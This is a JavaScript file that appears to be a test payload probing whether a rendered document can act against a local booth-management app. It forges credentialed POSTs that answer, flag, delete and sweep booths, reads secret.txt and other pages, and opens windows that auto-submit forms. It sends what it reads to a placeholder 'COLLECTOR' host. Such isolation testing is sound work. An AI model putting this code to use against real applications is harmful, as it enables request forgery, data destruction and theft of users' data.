"use strict";
// What a booth would do about the answers and the life of booths, its own too.
const desk = "DESK", own = "meddling", booths = [own, "victim", "kept"];
const tell = (subject, v) => fetch("COLLECTOR/" + subject + "?v=" + encodeURIComponent(v), { mode: "no-cors" });
const form = { "Content-Type": "application/x-www-form-urlencoded" };
const answer = "id=m1&question=1&document=1&part-0=%3Da";
const acts = (booth) => [
  ["b/" + booth + "/marks/answer", answer],
  ["b/" + booth + "/marks/answer", '{"id":"m1","parts":{"p1":{"choices":["a"]}}}'],
  ["b/" + booth + "/marks/note", "text=planted"],
  ["b/" + booth + "/marks/flag", "target=secret.txt"],
  ["b/" + booth + "/marks/ask", '{"title":"Hold me","parts":[{"id":"a","kind":"confirm"}]}'],
  ["b/" + booth + "/marks/withdraw", "id=m1"],
  ["b/" + booth + "/keep", "why=mine"],
  ["b/" + booth + "/unkeep", ""],
  ["b/" + booth + "/repair", ""],
  ["b/" + booth + "/delete", ""],
];
const everything = [...booths.flatMap(acts), ["trash/TRASH/restore", ""], ["api/v1/trash/TRASH/restore", ""], ["api/v1/sweep", ""]];
const pages = (booth) => ["", "marks", "view?f=secret.txt", "asks", "?download=1", "marks.json"].map((p) => desk + "b/" + booth + "/" + p);
const readable = [...booths.flatMap(pages), ...booths.map((b) => desk + "b/" + b + "/secret.txt"), desk, desk + "trash", desk + "api/v1/booths", desk + "api/v1/trash", desk + "api/v1/booths/victim/explain"];
const settled = (make) => new Promise((done) => {
  const e = make();
  e.onload = e.onerror = done;
  setTimeout(done, 2000); // a drawing has elements that never say so
  document.documentElement.append(e);
});
const xhtml = (tag, more) => Object.assign(document.createElementNS("http://www.w3.org/1999/xhtml", tag), more);

// Where is which document this runs in: each does all of it.
const meddle = async (where) => {
  await fetch("COLLECTOR-GATE/", { mode: "no-cors" }); // answers when the test has taken away the operator's own view
  await Promise.all(everything.flatMap(([path, body]) => {
    navigator.sendBeacon(desk + path, new Blob([body], { type: form["Content-Type"] }));
    return [form, { "Content-Type": "text/plain" }].flatMap((headers) => ["cors", "no-cors"].map((mode) =>
      fetch(desk + path, { method: "POST", mode, headers, body, credentials: "include" }).catch(() => {})));
  }));
  let read = [];
  await Promise.all(readable.flatMap((address) => [
    ...["include", "omit"].map((credentials) => fetch(address, { credentials }).then(async (r) => read.push(address + r.status + (await r.text()).slice(0, 40)), () => {})),
    fetch(address, { mode: "no-cors", credentials: "include" }).then(async (r) => { if (await r.text()) read.push(address); }, () => {}),
  ]));
  await tell("read-" + where, read);
  let heard = [];
  const stream = new EventSource(desk + "events", { withCredentials: true });
  await new Promise((done) => {
    for (const kind of ["open", "message", "change", "resync"]) stream.addEventListener(kind, () => { heard.push(kind); done(); });
    stream.onerror = done;
  });
  stream.close();
  await tell("events-" + where, heard);
  await Promise.all(booths.flatMap(pages).flatMap((address) => {
    document.documentElement.append(xhtml("link", { rel: "prefetch", href: address }), xhtml("video", { src: address, preload: "auto" }), xhtml("object", { data: address }));
    return [xhtml("img", { src: address }), xhtml("script", { src: address }), xhtml("link", { rel: "stylesheet", href: address }), xhtml("iframe", { src: address })].map((e) => settled(() => e));
  }));
  let frames = [];
  for (const f of document.getElementsByTagName("iframe")) {
    try { if (f.contentDocument.body.textContent) frames.push(f.src); } catch { /* as it should be */ }
  }
  await tell("frames-" + where, frames);
  await tell("done-" + where, 1);
};

// A window of its own is no sandbox: had the report a hand on it, it would post
// forms there. The pages that it opens so are whole.
const meddleApart = async () => {
  let hands = [];
  const alone = window.open("about:blank");
  if (alone) {
    hands.push("about:blank");
    for (const [path] of everything) {
      alone.document.body.insertAdjacentHTML("beforeend", `<iframe name="f${hands.length}"></iframe><form method="post" action="${desk + path}" target="f${hands.length}"></form>`);
      hands.push(path);
    }
    for (const f of alone.document.forms) f.submit();
  }
  for (const page of ["", "marks", "view?f=secret.txt"]) {
    const w = window.open(desk + "b/popped/" + page);
    if (w) hands.push(page);
  }
  await tell("hands", hands);
};
